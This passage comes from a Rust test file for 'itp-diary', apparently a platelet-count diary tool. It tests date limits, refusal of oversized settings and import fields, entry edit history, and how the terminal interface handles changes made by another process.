            .as_array()
            .unwrap()
            .len(),
        1
    );
}

// 19. Bounds: dates before 1900, a huge settings file, a huge name in an import.
#[test]
fn item19_bounds() {
    let d = Diary::new();
    let out = d
        .cmd()
        .args(["log", "platelets", "45", "--at", "1899-12-31 08:00"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2), "{}", stderr_of(&out));
    assert!(stderr_of(&out).contains("1900"));
    // A 5 MB settings file is refused by its size, unread.
    let cfg = d.dir.path().join("big.toml");
    std::fs::write(&cfg, "# x\n".repeat(1_300_000)).unwrap();
    let out = d
        .cmd()
        .env("ITP_DIARY_CONFIG", &cfg)
        .args(["list"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr_of(&out).contains("too large"), "{}", stderr_of(&out));
    // A 1 MB medication name or question in a backup is refused; nothing imported.
    d.ok(&["log", "platelets", "45"]);
    d.ok(&["note", "--for-visit", "q"]);
    let b = d.dir.path().join("b.json");
    d.cmd()
        .args(["export", "--format", "json", "-o"])
        .arg(&b)
        .assert()
        .success();
    let mut doc: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&b).unwrap()).unwrap();
    doc["visit_questions"][0]["text"] = "x".repeat(1_000_000).into();
    doc["visit_questions"][0]["uid"] = "ab".repeat(16).into();
    std::fs::write(&b, doc.to_string()).unwrap();
    let e = Diary::new();
    let out = e.cmd().args(["import"]).arg(&b).output().unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(
        stderr_of(&out).contains("at most 4000"),
        "{}",
        stderr_of(&out)
    );
}

// 20. `itp-diary history ID` shows the kept versions.
#[test]
fn item20_history_shows_every_version() {
    let d = Diary::new();
    d.ok(&["log", "platelets", "45", "--note", "first"]);
    d.ok(&["edit", "1", "--value", "50"]);
    d.ok(&["delete", "1"]);
    d.ok(&["undelete", "1"]);
    let h = d.ok(&["history", "1"]);
    let lines: Vec<&str> = h.lines().collect();
    assert_eq!(lines.len(), 5, "{h}");
    assert!(
        lines[1].contains("edited") && lines[1].contains("45"),
        "{h}"
    );
    assert!(
        lines[2].contains("deleted") && lines[2].contains("50"),
        "{h}"
    );
    assert!(lines[3].contains("restored"), "{h}");
    assert!(
        lines[4].starts_with("now:") && lines[4].contains("50"),
        "{h}"
    );
    let out = d.cmd().args(["history", "9"]).output().unwrap();
    assert_eq!(out.status.code(), Some(2));
}

// 2e. The window notices a change made by another process (PRAGMA data_version) and reloads.
#[test]
fn item02_the_window_reloads_after_an_outside_change() {
    use itp_diary::app::config::Settings;
    use itp_diary::domain::clock::Clock;
    use itp_diary::present::i18n::{I18n, Lang};
    use itp_diary::tui::theme::Theme;
    use itp_diary::tui::{Action, App, Tab};
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("d.sqlite");
    let mut other = Store::open(&path).unwrap();
    other.add_entry(&platelets(45.0, "one"), now()).unwrap();
    let mut app = App::new(
        Store::open(&path).unwrap(),
        Clock::Fixed(now()),
        I18n::new(Lang::En),
        Settings::default(),
        Theme { color: false },
    );
    app.update(Action::GoTab(Tab::History));
    let mut seen = app.store.data_version().ok();
    assert!(!app.reload_if_changed(&mut seen), "nothing changed yet");
    assert_eq!(app.history.rows.len(), 1);
    other.add_entry(&platelets(46.0, "two"), now()).unwrap();
    assert!(app.reload_if_changed(&mut seen));
    assert_eq!(app.history.rows.len(), 2);
}

// 2f. The TUI: deleting a row that changed elsewhere since the screen showed it is refused.
#[test]
fn item02_tui_delete_of_a_row_changed_elsewhere_is_refused() {
    use itp_diary::app::config::Settings;
    use itp_diary::domain::clock::Clock;
    use itp_diary::present::i18n::{I18n, Lang};
    use itp_diary::tui::theme::Theme;
    use itp_diary::tui::{Action, App, Tab};
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("d.sqlite");
    let mut other = Store::open(&path).unwrap();
    let e = other.add_entry(&platelets(45.0, "typed"), now()).unwrap();
    let mut app = App::new(
        Store::open(&path).unwrap(),
        Clock::Fixed(now()),
        I18n::new(Lang::En),
        Settings::default(),
        Theme { color: false },
    );
    app.update(Action::GoTab(Tab::History));
    let read = other.entry(e.id).unwrap();
    other
        .update_entry(&read, &platelets(80.0, "changed"), now())
        .unwrap();
    app.update(Action::Delete);
    app.update(Action::Yes);
    let msg = app.message.clone().map(|m| m.0).unwrap_or_default();
    assert!(msg.contains("changed elsewhere"), "{msg}");
    assert!(!other.entry(e.id).unwrap().deleted);
}
